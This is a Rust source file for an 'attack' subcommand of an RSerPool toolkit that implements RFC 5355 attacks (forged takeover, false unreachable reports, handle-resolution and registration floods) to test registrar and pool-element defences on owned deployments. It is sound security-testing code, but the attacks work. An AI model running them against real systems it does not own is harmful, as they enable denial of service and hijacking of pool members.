//! `rserpool attack`: a hostile peer for testing the defences of docs/SECURITY.md (as rsplib's
//! `attacker`). Each subcommand sends one of RFC 5355's attacks at a running registrar or pool
//! element and says what became of it; it never claims success it did not see. Run it only
//! against deployments you own.

use crate::RegistrarOpts;
use anyhow::{Context, Result, bail};
use clap::{Args, Subcommand};
use rserpool_asap::{AsapConnection, PoolUser};
use rserpool_wire::{AsapMessage, PoolHandle};
use std::net::SocketAddr;
use std::time::{Duration, Instant};

#[derive(Args, Debug, serde::Serialize)]
#[serde(rename_all = "kebab-case")]
pub struct AttackArgs {
    #[command(subcommand)]
    pub attack: Attack,
}

#[derive(Subcommand, Debug, serde::Serialize)]
#[serde(rename_all = "kebab-case")]
pub enum Attack {
    /// Forged takeover (RFC 5355 §3.1): an ENDPOINT_KEEP_ALIVE with the H bit from a made-up
    /// registrar to every PE of a pool (their takeover addresses from a handle resolution),
    /// held open for a while. A defended PE answers but stays with its home and closes it.
    Takeover(TakeoverArgs),
    /// ENDPOINT_UNREACHABLE about a PE, as often as asked and over as many associations
    /// (RFC 5355 §3.6): a defended registrar keeps a PE whose service answers.
    Unreachable(UnreachableArgs),
    /// A handle-resolution flood (RFC 5355 §3.4): HANDLE_RESOLUTIONs back to back over several
    /// associations, without waiting for the answers, each reconnecting when the registrar
    /// closes it; prints how many were answered, refused by the rate limit, and how often the
    /// registrar closed an association.
    ResolveFlood(FloodArgs),
    /// A registration flood (RFC 5355 §3.3): made-up PEs registered over several associations
    /// until the registrar refuses them; prints how many it took and how many it refused, by
    /// cause.
    RegisterFlood(RegisterFloodArgs),
}

#[derive(Args, Debug, serde::Serialize)]
#[serde(rename_all = "kebab-case")]
pub struct RegisterFloodArgs {
    #[arg(long)]
    pub pool: String,
    #[arg(long, default_value_t = 4)]
    pub associations: u32,
    /// PEs each association tries to register.
    #[arg(long, default_value_t = 2000)]
    pub pes: u32,
    #[command(flatten)]
    pub registrars: RegistrarOpts,
}

#[derive(Args, Debug, serde::Serialize)]
#[serde(rename_all = "kebab-case")]
pub struct FloodArgs {
    #[arg(long)]
    pub pool: String,
    #[arg(long, default_value_t = 4)]
    pub associations: u32,
    #[arg(long, default_value_t = 3000)]
    pub duration_ms: u64,
    #[command(flatten)]
    pub registrars: RegistrarOpts,
}

#[derive(Args, Debug, serde::Serialize)]
#[serde(rename_all = "kebab-case")]
pub struct TakeoverArgs {
    /// The pool whose PEs are attacked.
    #[arg(long)]
    pub pool: String,
    /// The registrar identifier claimed.
    #[arg(long, default_value = "0xdeadbeef", value_parser = super::parse_u32)]
    pub server_id: u32,
    /// How long to hold each connection open (answering keep-alives as a registrar would not).
    #[arg(long, default_value_t = 5000)]
    pub hold_ms: u64,
    #[command(flatten)]
    pub registrars: RegistrarOpts,
}

#[derive(Args, Debug, serde::Serialize)]
#[serde(rename_all = "kebab-case")]
pub struct UnreachableArgs {
    #[arg(long)]
    pub pool: String,
    /// The PE reported.
    #[arg(long, value_parser = super::parse_u32)]
    pub pe: u32,
    /// Reports per association.
    #[arg(long, default_value_t = 3)]
    pub count: u32,
    /// Associations (pool users) the reports come over.
    #[arg(long, default_value_t = 1)]
    pub associations: u32,
    #[command(flatten)]
    pub registrars: RegistrarOpts,
}

pub fn run(args: AttackArgs) -> Result<()> {
    super::init_logging();
    super::runtime()?.block_on(async move {
        match args.attack {
            Attack::Takeover(a) => takeover(a).await,
            Attack::Unreachable(a) => unreachable(a).await,
            Attack::ResolveFlood(a) => resolve_flood(a).await,
            Attack::RegisterFlood(a) => register_flood(a).await,
        }
    })
}

/// What became of a forged takeover at one PE.
#[derive(Debug, PartialEq, Eq)]
enum Verdict {
    /// The PE closed the connection: it did not follow.
    Refused,
    /// The connection stayed open for the whole hold: the PE may have followed.
    Held,
    /// The PE could not be reached.
    Unreachable,
}

async fn takeover(a: TakeoverArgs) -> Result<()> {
    let mut cfg = super::pu_config(&a.registrars)?;
    // Every PE of the pool (the registrar's default answer names 3).
    cfg.items = Some(u32::MAX);
    let handle = PoolHandle::from(a.pool.as_str());
    let mut pu = PoolUser::new(cfg)?;
    let res = pu.resolve(&handle).await.context("handle resolution")?;
    if res.pool_elements.is_empty() {
        bail!("pool {} has no PE", a.pool);
    }
    let hold = Duration::from_millis(a.hold_ms);
    // With TLS options the claim goes over TLS with this certificate, as a registrar's would.
    let tls = a.registrars.tls()?;
    let mut held = 0;
    for pe in &res.pool_elements {
        let Some(at) = pe
            .asap_transport
            .as_ref()
            .and_then(|t| t.socket_addrs().next())
        else {
            println!("PE {:#010x}: announces no takeover address", pe.id);
            continue;
        };
        let v = forge(at, tls.as_deref(), &handle, pe.id, a.server_id, hold).await;
        println!("PE {:#010x} at {at}: {v:?}", pe.id);
        held += usize::from(v == Verdict::Held);
    }
    if held > 0 {
        bail!("{held} PE(s) kept the forged takeover's connection open");
    }
    Ok(())
}

/// One forged takeover at `at` (over TLS with `tls`).
async fn forge(
    at: SocketAddr,
    tls: Option<&rserpool_tls::Tls>,
    pool: &PoolHandle,
    pe: u32,
    server_id: u32,
    hold: Duration,
) -> Verdict {
    let connect = async {
        let s = tokio::net::TcpStream::connect(at).await?;
        match tls {
            Some(tls) => {
                let s = tls.connect_stream(at.ip(), s).await?;
                Ok::<_, std::io::Error>(AsapConnection::from_io(s, at))
            }
            None => Ok(AsapConnection::from_stream(s, at)),
        }
    };
    let mut c = match tokio::time::timeout(Duration::from_secs(2), connect).await {
        Ok(Ok(c)) => c,
        // The PE's TLS refused the handshake (it does not trust the certificate).
        Ok(Err(e)) if tls.is_some() && e.kind() != std::io::ErrorKind::ConnectionRefused => {
            return Verdict::Refused;
        }
        _ => return Verdict::Unreachable,
    };
    let claim = AsapMessage::EndpointKeepAlive {
        home: true,
        server_id,
        pool_handle: pool.clone(),
        pe_id: Some(pe),
    };
    if c.send(&claim).await.is_err() {
        return Verdict::Refused;
    }
    let until = Instant::now() + hold;
    loop {
        let left = until.saturating_duration_since(Instant::now());
        if left.is_zero() {
            return Verdict::Held;
        }
        match tokio::time::timeout(left, c.recv()).await {
            Err(_) => return Verdict::Held,
            Ok(Err(_)) => return Verdict::Refused,
            Ok(Ok(_)) => {}
        }
    }
}

async fn unreachable(a: UnreachableArgs) -> Result<()> {
    let handle = PoolHandle::from(a.pool.as_str());
    for _ in 0..a.associations.max(1) {
        let cfg = super::pu_config(&a.registrars)?;
        let mut pu = PoolUser::new(cfg)?;
        for _ in 0..a.count {
            pu.report_unreachable(&handle, a.pe).await?;
        }
    }
    println!(
        "sent {} ENDPOINT_UNREACHABLE about PE {:#010x} over {} association(s)",
        a.count * a.associations.max(1),
        a.pe,
        a.associations.max(1)
    );
    Ok(())
}

/// What one flooding association saw.
#[derive(Debug, Default)]
struct Flooded {
    sent: u64,
    answered: u64,
    refused: u64,
    /// Times the registrar closed the association.
    closed: u32,
}

async fn resolve_flood(a: FloodArgs) -> Result<()> {
    let Some(&reg) = super::tcp_registrars(&a.registrars)?.first() else {
        bail!("no registrar given");
    };
    let msg = rserpool_wire::Message::to_bytes(&AsapMessage::HandleResolution {
        subscribe: false,
        pool_handle: PoolHandle::from(a.pool.as_str()),
        items: None,
    })?;
    let batch: Vec<u8> = msg.iter().copied().cycle().take(msg.len() * 64).collect();
    let until = tokio::time::Instant::now() + Duration::from_millis(a.duration_ms);
    let mut tasks = Vec::new();
    for _ in 0..a.associations.max(1) {
        let batch = batch.clone();
        tasks.push(tokio::spawn(async move {
            let mut all = Flooded::default();
            while tokio::time::Instant::now() < until {
                let f = flood_one(reg, &batch, until).await?;
                all.sent += f.sent;
                all.answered += f.answered;
                all.refused += f.refused;
                all.closed += f.closed;
            }
            anyhow::Ok(all)
        }));
    }
    let mut total = Flooded::default();
    let mut closed = 0;
    for t in tasks {
        let f = t.await??;
        total.sent += f.sent;
        total.answered += f.answered;
        total.refused += f.refused;
        closed += f.closed;
    }
    println!(
        "sent {} HANDLE_RESOLUTIONs over {} association(s) in {} ms: {} answered, {} refused \
         by the rate limit, {closed} association(s) closed by the registrar",
        total.sent, a.associations, a.duration_ms, total.answered, total.refused
    );
    Ok(())
}

/// One association flooding until `until` or until the registrar closes it: writes batches
/// while it reads what comes back.
async fn flood_one(reg: SocketAddr, batch: &[u8], until: tokio::time::Instant) -> Result<Flooded> {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let s = tokio::net::TcpStream::connect(reg)
        .await
        .with_context(|| format!("connect to {reg}"))?;
    let (mut rd, mut wr) = s.into_split();
    let per_batch = 64;
    let writer = async {
        let mut sent = 0u64;
        while tokio::time::Instant::now() < until {
            match tokio::time::timeout_at(until, wr.write_all(batch)).await {
                Ok(Ok(())) => sent += per_batch,
                _ => break,
            }
        }
        sent
    };
    let reader = async {
        let mut f = Flooded::default();
        let mut framer = rserpool_wire::Framer::new(1 << 16);
        let mut buf = vec![0u8; 64 * 1024];
        loop {
            match tokio::time::timeout_at(until, rd.read(&mut buf)).await {
                Ok(Ok(0)) | Ok(Err(_)) => {
                    f.closed = 1;
                    break;
                }
                Ok(Ok(n)) => {
                    framer.extend(&buf[..n]);
                    while let Ok(Some(m)) = framer.next_message() {
                        match <AsapMessage as rserpool_wire::Message>::decode(&m) {
                            Ok(AsapMessage::HandleResolutionResponse { error: None, .. }) => {
                                f.answered += 1
                            }
                            Ok(_) => f.refused += 1,
                            Err(_) => {}
                        }
                    }
                }
                Err(_) => break,
            }
        }
        f
    };
    let (sent, mut f) = tokio::join!(writer, reader);
    f.sent = sent;
    Ok(f)
}

async fn register_flood(a: RegisterFloodArgs) -> Result<()> {
    let Some(&reg) = super::tcp_registrars(&a.registrars)?.first() else {
        bail!("no registrar given");
    };
    let mut tasks = Vec::new();
    for k in 0..a.associations.max(1) {
        let pool = PoolHandle::from(a.pool.as_str());
        let pes = a.pes;
        tasks.push(tokio::spawn(async move {
            register_many(reg, pool, k, pes).await
        }));
    }
    let mut taken = 0u64;
    let mut refused: std::collections::BTreeMap<String, u64> = Default::default();
    // Every association stays open until all are done: its PEs count against the limits.
    let mut open = Vec::new();
    for t in tasks {
        let (ok, no, conn) = t.await??;
        open.push(conn);
        taken += ok;
        for (cause, n) in no {
            *refused.entry(cause).or_default() += n;
        }
    }
    let refused: Vec<String> = refused.iter().map(|(c, n)| format!("{n} {c}")).collect();
    drop(open);
    println!(
        "registered {taken} PEs over {} association(s); refused: {}",
        a.associations,
        if refused.is_empty() {
            "none".into()
        } else {
            refused.join(", ")
        }
    );
    Ok(())
}

/// Association `k` registers `pes` made-up PEs, one after the other, refused or not. Returns
/// (registered, refusals by cause) and the association, still open.
async fn register_many(
    reg: SocketAddr,
    pool: PoolHandle,
    k: u32,
    pes: u32,
) -> Result<(u64, Vec<(String, u64)>, AsapConnection)> {
    let mut c = AsapConnection::connect(reg, Duration::from_secs(2)).await?;
    let (mut ok, mut refused) = (0u64, Vec::new());
    for i in 0..pes {
        let id = (k << 20 | i) + 1;
        let pe = rserpool_wire::PoolElement {
            id,
            home_registrar: 0,
            registration_life: -1,
            user_transport: rserpool_wire::UserTransport::Address(
                rserpool_wire::TransportAddress::tcp(SocketAddr::from(([127, 0, 0, 1], 9))),
            ),
            policy: rserpool_wire::Policy::RoundRobin,
            asap_transport: None,
        };
        c.send(&AsapMessage::Registration {
            pool_handle: pool.clone(),
            pool_element: pe,
        })
        .await?;
        let answer = loop {
            match c.recv().await? {
                AsapMessage::RegistrationResponse { reject, error, .. } => break (reject, error),
                _ => continue,
            }
        };
        match answer {
            (false, _) => ok += 1,
            (true, error) => {
                let cause = error
                    .and_then(|e| e.causes.first().map(|c| c.code.to_string()))
                    .unwrap_or_else(|| "no cause".into());
                match refused.iter_mut().find(|(c, _)| *c == cause) {
                    Some((_, n)) => *n += 1,
                    None => refused.push((cause, 1)),
                }
            }
        }
    }
    Ok((ok, refused, c))
}
